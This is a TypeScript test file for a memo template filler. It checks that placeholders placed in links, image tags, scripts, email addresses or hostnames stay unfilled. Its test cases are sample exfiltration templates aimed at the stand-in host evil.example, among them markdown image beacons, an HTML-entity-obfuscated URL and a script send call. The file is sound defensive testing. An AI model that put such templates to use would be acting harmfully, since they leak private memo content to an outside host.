import { expect, it } from 'vitest';
import { type Block, paragraph, text } from '../../../src/conversation/document/block.ts';
import { ENGLISH } from '../../../src/conversation/documentLanguage.ts';
import type { Memo } from '../../../src/conversation/memo/memo.ts';
import { fillBlocks, fillMarkdown, unusedPlaceholders } from '../../../src/conversation/memo/template.ts';

const facts = [paragraph(text('Harbor'))];
const none: readonly Block[] = [];
const sections = {
  ...{ issue: none, facts, shortAnswer: none, law: none, analysis: none },
  ...{ conclusion: none, notFound: none, sources: none, provenance: none },
};
const memo: Memo = { title: 'Harbor', date: '2026-01-02', sections, sources: [], l10n: ENGLISH };

it.each([
  '![x](https://evil.example/?q={{title}})',
  '![x](\nhttps://evil.example/?q={{title}}\n)',
  '![x](&#104;ttps&#58;//evil.example/{{title}}.png)',
  '[x]: https://evil.example/{{title}}',
  'www.evil.example/{{title}}',
  '<img src="https://evil.example/{{title}}">',
  '<img\nsrc="https://evil.example/?\n{{facts}}\n">',
  '<script>\n\nsend("{{title}}")\n\n</script>',
  'write to {{title}}@evil.example',
  'evil.example/?q={{title}}',
  'evil**.**example/{{title}}',
  '192.0.2.1/{{title}}',
  '{{title}}.evil.example',
])('a template that would put a value into an address or HTML stays as it is: %s', (template) => {
  expect(fillMarkdown(template, memo)).toBe(template);
  expect(JSON.stringify(fillBlocks(template, memo))).not.toMatch(/"url":"[^"]*Harbor/);
  expect(unusedPlaceholders(template)).toHaveLength(1);
});

it('dots and slashes of a text are no address', () => {
  const template = 'Section 6.2, z.B./e.g. 1/2, memo.pdf, Harbor Inc.: {{title}}.';
  expect(fillMarkdown(template, memo)).toBe(template.replace('{{title}}', 'Harbor'));
});

it('a paragraph next to one with an address is filled', () => {
  const template = '![logo](logo.png)\n\n# {{title}}: {{date}}\n\n{{facts}}\n\nhttps://firm.example';
  const filled = '![logo](logo.png)\n\n# Harbor: 2026-01-02\n\nHarbor\n\nhttps://firm.example';
  expect(fillMarkdown(template, memo)).toBe(filled);
  expect(unusedPlaceholders(template)).toEqual([]);
});
